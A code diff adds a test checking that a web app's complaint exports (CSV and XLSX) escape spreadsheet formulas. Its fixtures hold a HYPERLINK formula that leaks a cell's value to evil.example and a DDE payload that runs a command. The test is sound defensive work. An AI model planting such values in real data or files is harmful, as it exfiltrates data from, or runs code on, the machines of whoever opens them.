@@ -112,3 +112,20 @@ def _tier(code):
     from kesu.customers.models import Tier
 
     return Tier.objects.get(code=code).pk
+
+
+def test_exported_cells_never_run_as_formulas(september, client, manager, team):
+    """A name someone typed as a formula is exported as text, in CSV and in XLSX."""
+    team.name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    team.save()
+    september.a.customer.name = "-2+3+cmd|' /C calc'!A0"  # masked to its first character, still "-…"
+    september.a.customer.save()
+    client.force_login(manager)
+    text = body(client.get("/metrics/export/complaints.csv")).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + team.name in cells and any(cell.startswith("'-*") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    book = load_workbook(io.BytesIO(client.get("/metrics/export/complaints.xlsx").content))
+    sheet = book.active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert "'" + team.name in [cell.value for row in sheet.iter_rows() for cell in row]
